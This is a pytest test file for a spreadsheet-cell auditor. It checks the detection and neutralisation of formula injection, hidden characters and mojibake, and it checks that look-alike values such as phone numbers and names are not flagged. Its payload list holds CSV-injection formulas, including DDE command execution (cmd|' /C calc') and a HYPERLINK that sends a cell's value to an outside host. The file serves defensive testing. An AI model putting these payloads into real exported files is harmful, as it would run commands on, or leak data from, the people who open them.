"""Formulas, hidden characters and damaged text in cells; the look-alikes that must stay quiet."""

from datetime import date
from types import SimpleNamespace

import polars as pl
import pytest

from auditor.facts.cells import FACTS, neutralise

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-SUM(A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://acme.example?x=\"&A1)", " =1+1", "\t=1+1", "\r=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1",
    "＝1+1", "＠SUM(1)", "+A1", "=IMPORTXML(A1)", "@INDIRECT(A1)", "\x01=1+1", "\u2212A1", "='http://x/[a.xls]b'!A1",
]  # fmt: skip
LOOKALIKES = [
    "+33 6 12 34 56 78", "+33(0)612345678", "+1-202-555-0100 ext. 5", "-5", "-3,5 %", "- rappeler lundi", "-", "--",
    "—",
    "-rappeler lundi", "- point (urgent)", "@acme_demo", "a@acme.example", "=", "=>", "==", '="+33612345678"',
    '="00123"', "1-2-3", "2026-03-01", "(=1)", "Jean-Paul", "C# / .NET", "l'été = chaud", "x=1", "http://acme.example/?a=1",
    "'+33612345678", "+", "+33", "-12.50", "R&D", "1 + 1 = 2",
]  # fmt: skip


def judged(*cells):
    """The facts of one-cell rows whose record text is the cell."""
    raw = [f"x;{cell};y\n" for cell in cells]
    frame = pl.DataFrame({"raw": raw, "cell_0": list(cells)}, schema={"raw": pl.String, "cell_0": pl.String})
    context = SimpleNamespace(cells=("cell_0",), today=date(2026, 11, 1))
    return FACTS[0].apply(frame, context)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_is_unsafe_and_neutralised_reversibly(payload):
    assert judged(payload)["unsafe_cell"].to_list() == ["formula"]
    assert pl.select(neutralise(pl.lit(payload))).item() == "'" + payload


@pytest.mark.parametrize("text", LOOKALIKES)
def test_phones_numbers_dashes_and_list_items_are_left_alone(text):
    assert judged(text)["unsafe_cell"].to_list() == [None]
    assert pl.select(neutralise(pl.lit(text))).item() == text


def test_a_formula_behind_a_delimiter_inside_the_cell_is_unsafe_too():
    assert judged("Zoé;=cmd|' /C calc'!A0", 'a\t"=HYPERLINK(1)', "oui; = non")["unsafe_cell"].to_list() == [
        "inner_formula",
        "inner_formula",
        None,
    ]


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("Zo\u00ade", "invisible"), ("Zoé\u200b", "invisible"), ("Zoé\x1b[31m", "control"), ("Zoé\u202egnp", "bidi"),
        ("Zoé\x85", "control"), ("a\u200db", "invisible"), ("نامه\u200cها", None), ("👩\u200d💻", None),
        ("Zoé\u00a0N", None), ("Zoé\nN", None), ("d\u2019Œillet", None),
    ],
)  # fmt: skip
def test_hidden_characters_are_told_from_ordinary_ones(cell, code):
    assert judged(cell)["hidden_characters"].to_list() == [code]


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("HÃ©lÃ¨ne", "mojibake"), ("lâ€™offre", "mojibake"), ("TŽlŽphone", "mojibake"), ("tÈlÈphone", "mojibake"),
        ("Fran?ois", "replaced"), ("Zo\ufffd", "replaced"), ("3,36E+10", "number_destroyed"),
        ("6.12E10", "number_destroyed"),
        ("#NAME?", "spreadsheet_error"), ("#REF!", "spreadsheet_error"), ("########", "spreadsheet_error"),
        ("Hélène", None), ("São Paulo", None), ("Ângela", None), ("PRÉVÔT", None), ("http://acme.example/a?b=c", None),
        ("Quoi ?", None), ("12E", None), ("#1 du marché", None), ("LÂM", None), ("Čelik", None),
    ],
)  # fmt: skip
def test_damaged_text_is_told_from_foreign_names(cell, code):
    assert judged(cell)["cell_damage"].to_list() == [code]


def test_rows_without_anything_strange_and_empty_frames_are_quiet():
    assert judged("Zoé", "").null_count().row(0) == (2, 2, 2)
    assert judged().height == 0
